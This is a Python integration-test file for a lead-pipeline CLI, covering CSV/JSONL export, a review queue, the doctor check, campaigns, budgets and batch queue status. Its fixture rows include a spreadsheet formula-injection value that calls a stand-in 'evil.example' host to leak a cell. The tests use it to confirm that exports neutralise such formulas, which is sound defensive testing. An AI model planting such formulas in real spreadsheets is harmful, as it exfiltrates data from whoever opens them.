"""Issue 13 through the real CLI: safe exports, the review screen, idempotent decisions."""

from __future__ import annotations

import csv
import io
import json
import os
from decimal import Decimal
from pathlib import Path

import pytest
import redis
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from db.enums import EmailStatus, LeadStatus, Stage, StageStatus
from db.models import BatchGroup, BatchRequest, Email, Lead, QueueState, ReviewItem, StageResult
from pipeline.budget.guard import BudgetConfig, BudgetGuard
from pipeline.budget.reservations import ReservationStore
from pipeline.campaigns.exports import FORMULA_PREFIXES
from tests.cli import run_cli as _cli
from tests.cli import service_env
from tests.factories import make_batch

pytestmark = pytest.mark.integration

HOSTILE_ROWS = [
    '"=HYPERLINK(""http://evil.example/?d=""&A2,""x"")",,ceo@evil.test,"+Eve",CEO,Software,50,US,,',
    "@Acme Corp,,ops@acme.test,-Bob,Ops,Retail,20,US,,",
    "Plain Co,,sam@plain.test,Sam,Owner,Retail,12,US,,",
]


@pytest.fixture
def env(db_url: str, redis_url: str, tmp_path: Path) -> dict[str, str]:
    return service_env(
        db_url,
        redis_url,
        LEADPIPE_HOME=str(tmp_path / "home"),
    )


def _judge(session: Session, lead: Lead, *, status: EmailStatus, body: str) -> Email:
    """What the judge stage stores: the email, its verdict and, when held, a review item."""
    email = Email(
        lead_id=lead.id,
        run_id=lead.run_id,
        subject=f"{lead.company} and you",
        body=body,
        model="sim/cheap",
        quality=0.9 if status == EmailStatus.APPROVED else 0.5,
        status=status,
    )
    session.add(email)
    session.flush()
    verdict = {"overall": float(email.quality or 0), "gate": 0.75, "feedback": "too generic"}
    verdict |= {"professionalism": 0.6, "personalization": 0.3, "relevance": 0.5}
    session.add(
        StageResult(
            lead_id=lead.id,
            run_id=lead.run_id,
            stage=Stage.JUDGE.value,
            status=StageStatus.DONE,
            output=verdict,
        )
    )
    if status == EmailStatus.HELD:
        session.add(ReviewItem(email_id=email.id, lead_id=lead.id, reason="quality 0.50"))
    lead.status = LeadStatus.COMPLETED
    return email


def _approve_all(session: Session) -> None:
    for lead in session.scalars(select(Lead).order_by(Lead.id)):
        _judge(session, lead, status=EmailStatus.APPROVED, body=f"-{lead.company}\n@here")


def test_hostile_export_has_no_formula_cell_and_each_recipient_once(
    env: dict[str, str], session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    with session_factory() as session, session.begin():
        make_batch(session, HOSTILE_ROWS, campaign="q4")
        make_batch(session, HOSTILE_ROWS[:2], campaign="q4")  # the same export enqueued again
        _approve_all(session)
        nobody = make_batch(session, ["No Mail Ltd,nomail.test,,,,Retail,5,US,,"], campaign="q4")
        _judge(
            session,
            session.get_one(Lead, nobody.leads[0][0]),
            status=EmailStatus.APPROVED,
            body="hi",
        )
    out = tmp_path / "emails.csv"
    result = _cli(env, "export", "--campaign", "q4", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
    emails = [row[0] for row in rows[1:]]
    assert sorted(emails) == ["ceo@evil.test", "ops@acme.test", "sam@plain.test"]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert "suppressed 2 repeat(s)" in result.stderr
    assert "no deliverable address" in result.stderr
    jsonl = _cli(env, "export", "--campaign", "q4", "--format", "jsonl")
    assert len(jsonl.stdout.splitlines()) == 3


def test_validate_flags_formula_names(tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    header = "Company Name,Website URL,Email,First Name,Job Title,Industry,Employees,Country,x,y"
    path.write_text("\n".join([header, *HOSTILE_ROWS]) + "\n", encoding="utf-8")
    result = _cli(dict(os.environ), "validate", str(path), "--json")
    doc = json.loads(result.stdout)
    flagged = {w["row"] for w in doc["warnings"] if "formula" in w["reason"]}
    assert flagged == {2, 3}


def test_review_show_is_readable_and_decisions_are_idempotent(
    env: dict[str, str], session_factory: sessionmaker[Session]
) -> None:
    with session_factory() as session, session.begin():
        batch = make_batch(session, HOSTILE_ROWS[2:], campaign="q4")
        _judge(
            session,
            session.get_one(Lead, batch.leads[0][0]),
            status=EmailStatus.HELD,
            body="Hello Sam",
        )
        item_id = session.scalars(select(ReviewItem.id)).one()
    shown = _cli(env, "review", "show", str(item_id))
    assert shown.returncode == 0, shown.stderr
    for text in (
        "To:      Sam <sam@plain.test>",
        "Subject: Plain Co and you",
        "Hello Sam",
        "personalization 0.30",
        "Feedback: too generic",
    ):
        assert text in shown.stdout
    first = _cli(env, "review", "approve", str(item_id))
    again = _cli(env, "review", "approve", str(item_id))
    assert (first.returncode, again.returncode) == (0, 0), again.stderr
    assert "already approved" in again.stdout and "Traceback" not in again.stderr
    reject = _cli(env, "review", "reject", str(item_id))
    assert reject.returncode == 1 and "already approved" in reject.stderr
    assert "Traceback" not in reject.stderr
    exported = _cli(env, "export", "--campaign", "q4", "--format", "jsonl")
    assert [json.loads(x)["email"] for x in exported.stdout.splitlines()] == ["sam@plain.test"]


def test_doctor_says_what_is_missing_and_version_prints(
    env: dict[str, str], session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    bare = {k: v for k, v in env.items() if not k.startswith("LEADPIPE_PROVIDERS")}
    bare.pop("LEADPIPE_SIMULATOR_URL", None)
    sick = _cli(bare, "doctor")
    assert sick.returncode == 1
    assert (
        "NO model at all for: classify" in sick.stdout and "LEADPIPE_SIMULATOR_URL" in sick.stdout
    )
    well = _cli({**bare, "LEADPIPE_SIMULATOR_URL": "http://127.0.0.1:9/v1"}, "doctor", "--json")
    doc = json.loads(well.stdout)
    assert well.returncode == 0 and doc["ready"], doc
    assert {c["name"] for c in doc["checks"]} == {"database", "migrations", "redis", "providers"}
    version = _cli(bare, "--version")
    assert version.returncode == 0 and version.stdout.startswith("leadpipe 0.")


def test_read_only_commands_on_a_fresh_home_neither_crash_nor_migrate(
    redis_url: str, tmp_path: Path
) -> None:
    home = tmp_path / "fresh"
    env = {k: v for k, v in os.environ.items() if not k.startswith("LEADPIPE_")}
    env |= {"LEADPIPE_HOME": str(home), "LEADPIPE_REDIS_URL": redis_url}
    for args in (
        ["report"],
        ["report", "--json"],
        ["export", "--campaign", "q4"],
        ["review", "list"],
        ["campaigns", "list"],
        ["queues", "status"],
    ):
        done = _cli(env, *args)
        assert done.returncode == 0, (args, done.stderr)
        assert "no data yet" in done.stderr and "Traceback" not in done.stderr, args
    assert not (home / "leadpipe.db").exists()
    doctor = _cli(env, "doctor", "--json")
    assert not json.loads(doctor.stdout)["ready"] and not (home / "leadpipe.db").exists()


def test_campaigns_list_shows_files_that_could_not_be_used(
    env: dict[str, str], session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    drop = tmp_path / "drop"
    drop.mkdir()
    (drop / "broken.csv").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 4)
    added = _cli(env, "campaigns", "add", "nightly", "--source", str(drop), "--cron", "0 2 * * *")
    assert added.returncode == 0, added.stderr
    ran = _cli(env, "campaigns", "run-now", "nightly")
    assert "Traceback" not in ran.stderr
    listed = _cli(env, "campaigns", "list")
    assert "could not use" in listed.stdout and "broken.csv" in listed.stdout
    assert "binary" in listed.stdout
    doc = json.loads(_cli(env, "campaigns", "list", "--json").stdout)
    assert doc[0]["errors"][0]["path"].endswith("broken.csv")


def test_budget_set_below_spend_warns_and_resume_lifts_budget_pauses(
    env: dict[str, str], session_factory: sessionmaker[Session], redis_client: redis.Redis
) -> None:
    guard = BudgetGuard(
        ReservationStore(redis_client),
        session_factory,
        BudgetConfig(
            limits={"daily": Decimal(1), "weekly": Decimal(99), "monthly": Decimal(99)},
            emergency_reserve=Decimal(0),
            webhook=True,
        ),
        notify=(sent := []).append,
    )
    guard.reconcile()
    guard.settle(guard.reserve(Decimal("0.01")), Decimal("0.95"))  # 70 % and 90 % at once
    assert [p["threshold_pct"] for p in sent] == [90] and sent[0]["crossed_pct"] == [70, 90]
    with session_factory() as session, session.begin():
        session.add(
            QueueState(queue="analyze", paused=True, reason="throttle 5", changed_by="budget")
        )
    low = _cli(env, "budget", "set", "--daily", "0.5")
    assert low.returncode == 0, low.stderr
    assert "not above this period's spend" in low.stderr
    assert "leadpipe queues resume analyze" in low.stderr
    raised = _cli(env, "budget", "set", "--daily", "50", "--resume")
    assert raised.returncode == 0 and "resumed analyze" in raised.stdout, raised.stderr
    with session_factory() as session:
        assert not session.get_one(QueueState, "analyze").paused


def test_queues_status_shows_requests_waiting_on_the_batch_path(
    env: dict[str, str], session_factory: sessionmaker[Session]
) -> None:
    """A lead whose request waits for a batch group is in no Celery queue: say where it is."""
    ref = "vllm:meta-llama/Llama-3.1-8B-Instruct"
    with session_factory.begin() as session:
        session.add(BatchGroup(id="g1", stage="analyze", model_ref=ref, backend="selfhosted"))
        session.flush()
        for i, (status, group) in enumerate(
            [("pending", None)] * 3 + [("grouped", "g1")] * 2 + [("done", "g1"), ("sync", None)]
        ):
            session.add(
                BatchRequest(
                    request_id=f"r{i}",
                    stage="analyze",
                    model_ref=ref,
                    payload={},
                    status=status,
                    group_id=group,
                )
            )
    doc = json.loads(_cli(env, "queues", "status", "--json").stdout)
    [row] = doc["batch_waiting"]
    assert (row["stage"], row["model"], row["pending"], row["grouped"]) == ("analyze", ref, 3, 2)
    assert 0 <= row["waiting_s"] < 60
    text = _cli({**env, "COLUMNS": "200"}, "queues", "status").stdout
    assert "waiting on the batch path" in text and ref in text
